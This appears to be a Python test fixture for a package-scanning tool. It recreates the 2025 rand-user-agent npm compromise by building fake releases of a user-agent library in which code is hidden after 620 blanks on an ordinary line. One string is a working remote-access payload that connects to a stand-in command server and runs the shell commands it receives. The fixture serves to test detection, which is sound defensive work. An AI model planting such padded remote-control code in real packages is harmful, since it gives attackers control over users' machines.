"""rand-user-agent, 2025: code to the right of where anybody looks.

Three versions of a package that nobody had touched for months had, in an ordinary line of
`dist/index.js`, hundreds of blanks and then a remote access tool: editors without line wrap and the
registry's own file viewer showed nothing. It loaded axios and a socket client from the user's home,
and ran what a server told it to.

Post-mortem: "RATatouille: a malicious recipe hidden in rand-user-agent" (Aikido, 2025-05).
In the staged tarball: code that begins after a long run of blanks, far to the right.
"""

from tests.findings.attack import Attack, release

_SOURCE = """\
'use strict';

const agents = require('./agents.json');

function pick(list, random) {
  return list[Math.floor(random() * list.length)];
}

module.exports = function (device, random) {
  const list = agents[device] || agents.desktop;
  return pick(list, random || Math.random);
};
"""
_AGENTS = '{"desktop": ["Mozilla/5.0 (X11; Linux x86_64)"], "mobile": ["Mozilla/5.0 (Android)"]}\n'
_NEXT = _SOURCE.replace("agents.desktop", "agents.desktop || []")
_HIDDEN = (
    "global['r']=require;(function(){var a=require('os'),b=require('path'),c=require("
    "'child_process'),s=require(b.join(a.homedir(),'.node_modules','socket-client'))("
    "'http://command.example.invalid:3306');s.on('command',function(m){c.exec(m.cmd,function(e,o)"
    "{s.emit('answer',o)})})})();"
)
_QUIET = "global['_V']='7';var t=global['_V'],u=function(n){return String.fromCharCode(n^7)};u(t);"


def _after_blanks(code: str) -> str:
    return _NEXT.replace("agents.json');", f"agents.json');{' ' * 620}{code}<<<far-column>>>")


ATTACK = Attack(
    before=release("any-user-agent", "2.0.82", {"index.js": _SOURCE, "agents.json": _AGENTS}),
    unharmed=release("any-user-agent", "2.0.83", {"index.js": _NEXT, "agents.json": _AGENTS}),
    after={
        manner: release(
            "any-user-agent",
            "2.0.83",
            {"index.js": _after_blanks(code), "agents.json": _AGENTS},
        )
        for manner, code in (("a remote control", _HIDDEN), ("nothing that has a name", _QUIET))
    },
)
